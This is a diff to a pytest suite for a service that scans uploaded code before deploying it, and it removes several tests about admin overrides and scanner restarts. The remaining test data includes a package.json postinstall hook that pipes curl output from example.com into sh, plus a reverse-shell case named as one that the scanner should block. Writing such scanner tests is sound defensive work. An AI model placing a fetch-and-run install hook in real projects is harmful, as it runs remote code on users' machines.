@@ -3,12 +3,8 @@
 from __future__ import annotations
 
 import json
-import os
-import select
-import signal
 import time
 from collections.abc import Iterator, Mapping
-from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
@@ -44,25 +40,8 @@ def rows(cursor, request):
 HOOK = json.dumps({"name": "app", "scripts": {"postinstall": "curl https://example.com/x | sh"}})
 BLOCKED: dict[str, tuple[str, Mapping[str, str], str]] = {
     "a reverse shell": ("MAL-reverse-shell", {"main.py": SHELL}, "python3 main.py"),
-    "an entrypoint without its file": ("SAN-entrypoint", {"app.py": TINY_APP}, "python3 main.py"),
-    "a syntax error": ("SAN-syntax", {"main.py": "def f(:\n"}, "python3 main.py"),
     "an install hook that fetches": ("MAL-install-hook", {"main.js": "1", "package.json": HOOK}, "node main.js"),
-    "a payload that is imported from tests": (
-        "MAL-reverse-shell",
-        {"main.py": "import tests.payload\n", "tests/payload.py": SHELL},
-        "python3 main.py",
-    ),
-    "an expression of a hundred thousand levels": (
-        "SAN-",
-        {"main.py": "x = " + "(" * 100_000 + ")" * 100_000},
-        "python3 main.py",
-    ),
 }
-
-
-@pytest.fixture
-def admin(service: LiveService) -> str:
-    return service.make_token("acme", "--scope", "admin")
 
 
 @pytest.fixture
@@ -133,30 +112,6 @@ def test_code_with_warnings_runs(service: LiveService, name: str) -> None:
     assert {finding["severity"] for finding in review["findings"]} == {"warn"}
 
 
-def test_finding_on_broken_code_cannot_be_accepted(service: LiveService, name: str, admin: str) -> None:
-    uuid, findings = refused(service, name, "def f(:\n")
-    later = (datetime.now(UTC) + timedelta(hours=1)).isoformat()
-    response = accept(service, uuid, findings[0], admin, expires=later)
-    assert (response.status_code, response.json()["code"]) == (409, "invalid_state")
-
-
-def test_blocked_code_runs_until_the_admins_date(service: LiveService, name: str, admin: str) -> None:
-    uuid, findings = refused(service, name, f"KEY = '{stripe_key()}'\n{TINY_APP}")
-    finding = findings[0]
-    assert accept(service, uuid, finding).json()["code"] == "forbidden"
-    end = datetime.now(UTC) + timedelta(seconds=12)
-    assert accept(service, uuid, finding, admin, expires=end.isoformat()).json()["data"]["passed"]
-    started = service.call("POST", f"/builders/{uuid}/start").json()["data"]
-    assert started["status"] == "running"
-    time.sleep(max(0.0, (end - datetime.now(UTC)).total_seconds()) + 0.5)
-    builder = service.builder(uuid)
-    assert (builder["status"], builder["review_passed"]) == ("running", False)
-    assert service.visit(builder).text == "hello"
-    service.call("POST", f"/builders/{uuid}/stop")
-    response = service.call("POST", f"/builders/{uuid}/start")
-    assert (response.status_code, response.json()["code"]) == (422, "review_failed")
-
-
 def test_blocked_redeploy_keeps_the_old_version_serving(service: LiveService, name: str) -> None:
     data = service.create(name)
     response = service.call("PUT", f"/builders/{data['uuid']}", json={"files": {"main.py": SHELL}})
@@ -172,20 +127,6 @@ def test_blocked_redeploy_keeps_the_old_version_serving(service: LiveService, na
 
 
 # The scanner's process
-
-
-def test_killed_scanner_is_restarted(service: LiveService, name: str) -> None:
-    service.create(name)
-    pids = workers(service.process.pid if service.process else 0)
-    assert pids, "no scanner was kept warm"
-    for pid in pids:
-        kill_and_wait(pid)
-    other = f"{name}-b"
-    try:
-        assert service.create(other, f"# {time.time()}\n{TINY_APP}")["review_passed"] is True
-    finally:
-        for builder in service.call("GET", f"/builders?name={other}").json()["data"]:
-            service.call("DELETE", f"/builders/{builder['uuid']}")
 
 
 @pytest.mark.parametrize("how", ["killed", "terminated"])
@@ -209,16 +150,6 @@ def workers(service_pid: int) -> list[int]:
         for pid in (int(path.name) for path in Path("/proc").iterdir() if path.name.isdigit())
         if is_worker(pid) and parent(pid) == service_pid
     ]
-
-
-def kill_and_wait(pid: int) -> None:
-    """Kill the scanner and wait for its end: a request sent before that would be lost."""
-    process = os.pidfd_open(pid)
-    try:
-        signal.pidfd_send_signal(process, signal.SIGKILL)
-        assert select.select([process], [], [], PATIENCE)[0], "it outlives SIGKILL"
-    finally:
-        os.close(process)
 
 
 def is_worker(pid: int) -> bool:
